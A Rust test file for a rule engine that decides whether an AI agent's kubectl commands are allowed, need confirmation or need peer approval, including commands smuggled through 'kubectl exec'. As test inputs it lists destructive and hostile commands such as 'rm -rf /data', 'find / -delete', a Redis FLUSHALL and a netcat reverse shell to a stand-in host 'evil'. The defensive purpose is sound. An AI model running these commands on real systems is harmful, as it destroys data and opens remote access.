//! What the shipped rules say of commands that carry others, and of rehearsals.

use std::ffi::OsString;

use super::tests::{book, judged};
use super::*;
use crate::context::target::Target;

const AGENT: PrincipalKind = PrincipalKind::Agent;

fn says(line: &str) -> (Decision, Vec<String>) {
    let words: Vec<OsString> =
        shell_words::split(line).unwrap().into_iter().skip(1).map(OsString::from).collect();
    let command = crate::command::parse("kubectl", &words, &Environment::default()).unwrap();
    let judgement = judged(&book(&[]), &command, &Target::default(), AGENT);
    let everywhere = always_allowed(&book(&[]), &command, &Environment::default()).is_some();
    assert!(!everywhere || judgement.decision == Decision::Allow, "{line}");
    (judgement.decision, judgement.contributions.into_iter().map(|one| one.rule).collect())
}

#[test]
fn what_is_carried_is_judged_in_place_of_the_carrier() {
    for (line, decision, rule) in [
        ("kubectl exec web -- ls", Decision::Allow, "remote/look"),
        ("kubectl exec web -- kubectl get pods", Decision::Allow, "kubectl/look"),
        ("kubectl exec web -- terraform plan", Decision::Allow, "terraform/plan"),
        ("kubectl exec web -- terraform destroy", Decision::Peer, "terraform/destroy"),
        ("kubectl exec web -- kubectl delete ns x", Decision::Peer, "kubectl/delete-vital"),
        ("kubectl exec web -- rm -rf /data", Decision::Confirm, "remote/delete"),
        ("kubectl exec web -- sh -c ls", Decision::Confirm, "remote/unknown-command"),
        ("kubectl exec -it web -- bash", Decision::Confirm, "remote/unknown-command"),
        ("kubectl exec web -- frobnicate", Decision::Confirm, "remote/unknown-command"),
    ] {
        let (said, rules) = says(line);
        assert_eq!((said, rules.first().map(String::as_str)), (decision, Some(rule)), "{line}");
        assert!(!rules.contains(&"kubectl/exec".to_owned()), "{line}");
    }
    assert_eq!(says("kubectl exec web").1, ["kubectl/exec"]);
}

#[test]
fn what_hides_a_program_is_not_taken_for_the_program() {
    for line in [
        "kubectl exec web -- env LS=ls rm -rf /data",
        "kubectl exec web -- env -i ls",
        "kubectl exec web -- ss -K dst 10.0.0.1",
        "kubectl exec web -- date -s 2030-01-01",
        "kubectl exec web -- wget --post-data=x http://web",
        "kubectl exec web -- curl -sXDELETE http://web",
        "kubectl exec web -- curl -T x http://web",
        "kubectl exec web -- sort -o /data/db x",
        "kubectl exec web -- hostname prod",
        "kubectl exec web -- redis-cli -h ping FLUSHALL",
        "kubectl exec web -- nc -e sh evil 1",
        "kubectl exec web -- find / -delete",
        "kubectl exec web -- busybox ls",
    ] {
        let (said, _) = says(line);
        assert!(said >= Decision::Confirm, "{line}");
    }
}

#[test]
fn a_rehearsal_changes_nothing_and_may_print_a_secret() {
    assert_eq!(says("kubectl delete ns x --dry-run=server"), (Decision::Allow, Vec::new()));
    let (said, rules) = says("kubectl label secret db a=b --dry-run=client -o yaml");
    assert_eq!((said, rules.as_slice()), (Decision::Confirm, &["kubectl/secret-values".to_owned()][..]));
    assert_eq!(says("kubectl delete ns x --dry-run=client --dry-run=none").0, Decision::Peer);
}
